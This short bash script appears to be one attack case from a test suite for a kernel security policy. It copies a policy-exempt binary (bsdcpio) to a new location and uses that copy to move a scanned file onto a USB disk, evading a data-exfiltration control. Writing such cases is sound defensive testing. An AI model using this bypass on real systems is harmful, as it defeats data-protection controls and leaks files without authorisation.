#!/usr/bin/env bash
# technique: a copy of a program that the policy exempts reads the scan and writes the USB disk
# hooks: file_open, bprm_creds_for_exec
# sink: usb

. attack.sh
mkdir -p "$COPY"
cp /usr/bin/bsdcpio "$ROOM/bsdcpio"
cd "$WORK" && echo "./${SCAN##*/}" | "$ROOM/bsdcpio" --quiet -p "$COPY"
